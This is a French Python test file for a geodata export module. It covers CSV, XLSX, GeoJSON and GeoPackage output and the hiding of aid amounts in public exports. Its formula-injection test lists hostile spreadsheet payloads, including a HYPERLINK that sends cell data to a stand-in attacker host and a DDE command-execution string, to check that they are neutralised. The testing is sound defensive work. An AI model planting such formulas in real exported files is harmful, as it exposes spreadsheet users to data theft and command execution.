"""Exports : CSV pour Excel en français, XLSX, GeoJSON et GeoPackage relisibles."""

import io
import json

import geopandas as gpd
import pandas as pd
from shapely.geometry import box

from donnees.export import exporter_csv, exporter_geojson, exporter_geopackage, exporter_xlsx


def table_test() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame({"nom": ["Cour de l'école", "Place « Marché »"], "surface": [1234.5, 10.0],
                             "parcelles": [["34301000AB0001"], []]},
                            geometry=[box(3.6, 43.4, 3.61, 43.41), box(3.62, 43.4, 3.63, 43.41)], crs=4326)


def test_csv_excel_francais():
    octets = exporter_csv(table_test())
    assert octets.startswith(b"\xef\xbb\xbf")
    texte = octets.decode("utf-8-sig")
    assert texte.splitlines()[0] == "nom;surface;parcelles"
    assert "1234,5" in texte and "geometry" not in texte
    relu = pd.read_csv(io.BytesIO(octets), sep=";", decimal=",", encoding="utf-8-sig")
    assert relu["surface"].tolist() == [1234.5, 10.0]


def test_xlsx_relisible():
    relu = pd.read_excel(io.BytesIO(exporter_xlsx(table_test())))
    assert relu["nom"].tolist() == ["Cour de l'école", "Place « Marché »"]


def test_geojson_et_geopackage(tmp_path):
    collection = json.loads(exporter_geojson(table_test().to_crs(2154)))
    assert len(collection["features"]) == 2
    assert 3.5 < collection["features"][0]["geometry"]["coordinates"][0][0][0] < 3.7
    chemin = tmp_path / "e.gpkg"
    chemin.write_bytes(exporter_geopackage(table_test()))
    relu = gpd.read_file(chemin)
    assert len(relu) == 2 and relu.crs.equals(4326)


# ------------------------------------------------------------ issue 13 : injection de formules, aides masquées

FORMULES = ["=HYPERLINK(\"http://attaquant/?x=\"&A1;\"clic\")", "+1+1", "-2+3", "@SUM(A1:A2)", "\tcalc",
            "\r=1+1", "=cmd|' /C calc'!A0"]


def test_formules_neutralisees_csv_et_xlsx():
    """Conseil OWASP « CSV Injection » : texte commençant par = + - @ tabulation ou retour chariot préfixé
    d'une apostrophe ; les nombres, même négatifs, restent des nombres."""
    import csv

    import openpyxl

    table = pd.DataFrame({"nom": FORMULES + ["Cour d'école", "a=b"], "montant": [-1500.5] + [100.0] * 8})
    lignes = list(csv.reader(io.StringIO(exporter_csv(table).decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [ligne[0] for ligne in lignes[1:]] == ["'" + f for f in FORMULES] + ["Cour d'école", "a=b"]
    assert lignes[1][1] == "-1500,5"  # nombre négatif intact (virgule décimale)
    feuille = openpyxl.load_workbook(io.BytesIO(exporter_xlsx(table))).active
    noms = [feuille.cell(row=i, column=1).value for i in range(2, 11)]
    # XLSX : le retour chariot est relu en saut de ligne (XML), l'apostrophe est bien là.
    assert noms == ["'" + f.replace("\r", "\n") for f in FORMULES] + ["Cour d'école", "a=b"]
    assert all(feuille.cell(row=i, column=1).data_type == "s" for i in range(2, 11))  # texte, pas formule
    assert feuille.cell(row=2, column=2).value == -1500.5 and feuille.cell(row=2, column=2).data_type == "n"


def test_export_public_montant_des_aides_absent_et_non_nul(dossier_demo_copie):
    """Public : les aides sont masquées, la colonne « Montant des aides (€) » est vide, jamais 0 €."""
    import openpyxl

    from donnees.comptes import VISITEUR
    from donnees.config import url_base
    from donnees.comptes import Utilisateur
    from donnees.droits import MagasinProtege, filtrer_financements
    from donnees.magasin import Magasin
    from donnees.referentiel import lire_territoire
    from indicateurs.calcul import calculer_indicateurs_operations
    from indicateurs.parametres import lire_parametres
    from services.exports import exporter_operations

    dossier_demo = dossier_demo_copie
    magasin = Magasin(url_base(dossier_demo))
    aidees = set(magasin.lire_financements()["operation_id"].astype(int))
    parametres = lire_parametres(lire_territoire(dossier_demo).get("parametres"))

    def exporter(facade) -> pd.DataFrame:
        operations, zones = facade.lire_operations(), facade.lire_zones()
        financements = filtrer_financements(facade.utilisateur, magasin.lire_financements(), operations)
        par_operation = calculer_indicateurs_operations(operations, zones, financements, parametres)
        feuille = openpyxl.load_workbook(io.BytesIO(exporter_operations(par_operation, operations, "xlsx"))).active
        valeurs = list(feuille.values)
        return pd.DataFrame(valeurs[1:], columns=valeurs[0])

    public = exporter(MagasinProtege(magasin, VISITEUR))
    publiques_aidees = public[public.iloc[:, 0].isin(aidees)]
    assert len(publiques_aidees) > 0
    assert publiques_aidees["Montant des aides (€)"].isna().all()
    assert not (public["Montant des aides (€)"] == 0).any()
    magasin.creer_utilisateur("admin@bassin.fr", "Admin", "administrateur", [], None, auteur="test")
    admin = Utilisateur.depuis_compte(magasin.lire_utilisateur("admin@bassin.fr"))
    complet = exporter(MagasinProtege(magasin, admin))  # administrateur : les vrais montants
    assert (complet[complet.iloc[:, 0].isin(aidees)]["Montant des aides (€)"] > 0).all()
    magasin.fermer()
